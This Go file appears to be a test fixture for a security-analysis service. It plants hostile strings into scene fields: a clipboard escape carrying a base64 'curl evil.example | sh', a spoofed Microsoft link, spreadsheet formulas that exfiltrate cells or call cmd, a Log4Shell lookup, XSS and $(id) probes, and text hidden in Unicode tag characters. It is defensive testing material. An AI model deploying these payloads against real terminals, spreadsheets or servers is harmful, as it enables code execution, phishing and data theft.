package estate

import "strings"

// hostileTexts are strings that attackers, or careless software, put where an analyst reads them: terminal control
// sequences, text that reorders or hides itself, spreadsheet formulas, and plain size. All of them are valid JSON and
// valid Unicode, so the service hands them on.
func hostileTexts() []string {
	return []string{
		"\x1b[31mred\x1b[0m alert",
		"\x1b[2J\x1b[H nothing to see",
		"\x1b]0;owned\x07title report \x1b[21t",
		"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07copied",
		"\x1b]8;;https://evil.example/login\x1b\\security.microsoft.com\x1b]8;;\x1b\\",
		"\x1bP$q\"p\x1b\\ reply",
		"\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\picture",
		"\u009b31m c1 \u009d0;x\u009c",
		"harmless\rFAKE   Resolved   benign",
		"line one\nline two\n > Resolved by Microsoft",
		"invoice\u202excod.exe",
		"\u2066user\u2069\u200f admin\u061c",
		"pay\u200bpal.exam\u200dple \ufeffzero",
		"tag" + tagged("hidden instruction") + " end",
		"Z" + strings.Repeat("\u0301\u0336\u0488", 40) + "algo",
		`=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"+49 30 1234567; -2+3; \t=1+1",
		"\x00\x01\x02\x7f\b\b\b\b hidden",
		"\u3164\u115f\u2800\u034f blank",
		"\ue0a0 \U000f0000 private \U0010ffff",
		"line\u2028separator\u2029paragraph\u0085next",
		"Ａｄｍｉｎ аdmin@соntоsо.com",
		"👩‍👩‍👧‍👦🏳️‍🌈 漢字 全角 اختبار עברית",
		"unterminated \x1b[",
		"│ ┃ ─ ▌ fake border ► Resolved",
		"${jndi:ldap://evil.example/a} <script>alert(1)</script> `id` $(id) %s%n {{7*7}}",
		strings.Repeat("very long ", 400) + "end",
	}
}

// tagged hides ASCII in the tag characters of plane 14.
func tagged(s string) string {
	return strings.Map(func(r rune) rune { return 0xE0000 + r }, s)
}

// makeHostile plants a hostile text somewhere in the scene: 0 title, 1 device, 2 user, 3 file, 4 mail subject, 5 comment.
func (s *scene) makeHostile(n int) {
	list := hostileTexts()
	s.hostile, s.field = list[n%len(list)], n%6
	switch s.field {
	case 1:
		s.devices[0].name += s.hostile
	case 2:
		s.users[0].name += " " + s.hostile
	case 3:
		s.file = s.hostile + s.file
	case 4:
		s.subject += " " + s.hostile
	}
}
